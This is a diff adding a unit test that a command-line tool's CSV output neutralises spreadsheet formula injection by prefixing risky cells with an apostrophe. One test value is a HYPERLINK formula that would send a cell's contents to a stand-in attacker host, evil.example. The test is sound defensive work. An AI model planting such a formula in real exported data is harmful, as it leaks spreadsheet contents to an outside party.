@@ -1,5 +1,6 @@
 import { describe, expect, it } from "vitest";
 import { palette, useColor } from "../../src/cli/color.js";
+import { renderList } from "../../src/cli/render-list.js";
 import { csvField, renderCsv, renderJson, renderNdjsonLine, renderTable } from "../../src/cli/render.js";
 import type { TargetRecord, ValueView } from "../../src/cli/records.js";
 import { FleetError } from "../../src/errors.js";
@@ -57,6 +58,32 @@ describe("render", () => {
     expect(lines[4]).toBe("");
     expect(csvField("a\nb")).toBe("\"a\nb\"");
     expect(csvField({ a: 1 })).toBe("\"{\"\"a\"\":1}\"");
+  });
+
+  it("csv neutralises formulas (OWASP CSV injection): a text cell starting with = + - @ tab or CR gets a leading ', numbers stay numbers", () => {
+    const named: TargetRecord<number>[] = [
+      { accountId: "111111111111", accountName: '=HYPERLINK("http://evil.example/?x="&A1,"click")', region: "us-east-1", ok: true, value: -3 },
+      { accountId: "111111111112", accountName: "+1", region: "us-east-1", ok: true, value: 0 },
+      { accountId: "111111111113", accountName: "-2+3", region: "us-east-1", ok: true, value: 1 },
+      { accountId: "111111111114", accountName: "@SUM(1,2)", region: "us-east-1", ok: true, value: 1 },
+      { accountId: "111111111115", accountName: "\t=1", region: "us-east-1", ok: true, value: 1 },
+      { accountId: "111111111116", accountName: "\r=1", region: "us-east-1", ok: true, value: 1 },
+      { accountId: "111111111117", accountName: "a=b", region: "us-east-1", ok: true, value: 1 },
+    ];
+    const rows = renderCsv(named, { ...view, fields: (n) => ({ optionGroups: n }) }).split("\r\n").slice(1, -1);
+    // accountName is not a csv column of fan-out records; the list renderer (accounts) prints it.
+    expect(rows[0]).toBe("111111111111,us-east-1,,true,-3,,,,,,,,");
+    const list = renderList("accounts", named.map((r) => ({ accountId: r.accountId, name: r.accountName })), [{ key: "accountId", title: "Account" }, { key: "name", title: "Name" }], "csv", palette(false));
+    expect(list.split("\r\n").slice(1, -1)).toEqual([
+      '111111111111,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"',
+      "111111111112,'+1",
+      "111111111113,'-2+3",
+      "111111111114,\"'@SUM(1,2)\"",
+      "111111111115,'\t=1",
+      "111111111116,\"'\r=1\"",
+      "111111111117,a=b",
+    ]);
+    expect([csvField(-5), csvField(1.5), csvField("-5"), csvField(true)]).toEqual(["-5", "1.5", "'-5", "true"]);
   });
 
   it("table shows each target, the failure's stage and codes, and the totals", () => {
